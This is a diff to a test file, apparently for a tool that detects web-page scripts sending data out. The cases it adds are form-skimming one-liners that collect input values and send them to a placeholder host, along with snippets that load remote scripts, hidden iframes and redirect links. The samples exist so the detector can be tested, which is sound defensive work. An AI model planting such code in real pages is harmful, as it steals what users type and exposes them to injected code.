@@ -164,6 +164,10 @@ describe('what leaves the page is read with where it comes from', () => {
     jQuery: `$.post('https://a.example/',$('form').serialize())`,
     'a script’s address': `var s=document.createElement('script');s.src='https://a.example/?v='+${fields};document.body.appendChild(s)`,
     'a loop over fields': `var o='';document.querySelectorAll('input').forEach(function(i){o+=i.name+'='+i.value});fetch('https://a.example/?'+o)`,
+    'a borrowed list method': `fetch('https://a.example/',{body:[].map.call(document.getElementsByTagName('input'),i=>i.value).join()})`,
+    'a spread list': `navigator.sendBeacon('https://a.example/',JSON.stringify([...document.querySelectorAll('input')].map(e=>[e.id,e.value])))`,
+    'a list made of fields': `fetch('https://a.example/?'+Array.from(document.forms[0].elements,e=>e.value))`,
+    'the page’s own form': `for(const f of document.forms)f.action='https://a.example/n'`,
     'an object of unknown names': `var o={};for(const i of document.forms[0].elements)o[i.name]=i.value;fetch('https://a.example/',{body:JSON.stringify(o)})`,
   };
   for (const [name, code] of Object.entries(ways)) {
@@ -181,5 +185,27 @@ describe('what leaves the page is read with where it comes from', () => {
   test('a tag of a tracker sends nothing that was typed', () => {
     const code = `(function(w,d,u){var s=d.createElement('script');s.src=u+'?t='+d.title+'&r='+d.referrer;d.head.appendChild(s)})(window,document,'https://a.example/t.js')`;
     expect(read(code).sendings.filter(({ typed, keys, cookie }) => typed || keys || cookie)).toEqual([]);
+  });
+});
+
+describe('what a script loads and makes in other ways', () => {
+  test.each([
+    `import(['https:','','a.example','m.js'].join('/'))`,
+    `new Worker(URL.createObjectURL(new Blob(['importScripts("https://a.example/m.js")'])))`,
+  ])('%s', (code) => {
+    expect(read(code).markup).toContain('<script src="https://a.example/m.js">');
+  });
+
+  test.each([
+    `document.body.append(Object.assign(document.createElement('iframe'),{src:'https://a.example/',hidden:1}))`,
+    `document.body.append(new DOMParser().parseFromString('<iframe src="https://a.example/"></iframe>','text/html').body)`,
+  ])('%s', (code) => {
+    expect(read(code).markup).toMatch(/<iframe [^>]*src="https:\/\/a\.example\/"/);
+  });
+
+  test('links of the page that all lead elsewhere, and one that the script looked up', () => {
+    const turned = read(`document.querySelectorAll('a').forEach(a=>{a.href='https://a.example/'})`);
+    expect(turned.redirects).toEqual([{ url: 'https://a.example/', when: 'perhaps' }]);
+    expect(read(`document.querySelector('#tiep').href='https://a.example/'`).redirects).toEqual([]);
   });
 });
